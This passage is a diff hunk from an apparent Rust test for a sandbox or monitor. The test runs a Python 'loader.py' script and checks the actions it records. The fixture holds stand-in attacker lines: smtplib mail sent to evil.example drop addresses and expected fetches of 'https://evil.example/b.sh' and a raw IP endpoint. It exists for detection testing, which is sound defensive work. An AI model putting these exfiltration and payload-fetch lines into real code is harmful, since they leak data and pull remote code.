@@ -120,7 +120,7 @@ async fn what_is_said_in_tls_is_read() {
                   m.sendmail('a@evil.example', ['drop@evil.example'], 'x'); m.quit()\n\
                   m = smtplib.SMTP_SSL('mx.example', 465, timeout=3, context=ours); m.sendmail('b@evil.example', ['late@evil.example'], 'x'); m.quit()\n";
     let Some(report) = run("loader.py", script).await else { return };
-    assert!(printed(&report).contains("exit 0") && printed(&report).contains("not trusted"), "{:#?}", report.timeline);
+    assert!(printed(&report).contains("exit 0") && printed(&report).contains("not trusted"), "{report:#?}");
     for (action, text) in [
         (Action::Load, "GET https://evil.example/b.sh"),
         (Action::Load, "GET https://203.0.113.9:8443/c"),
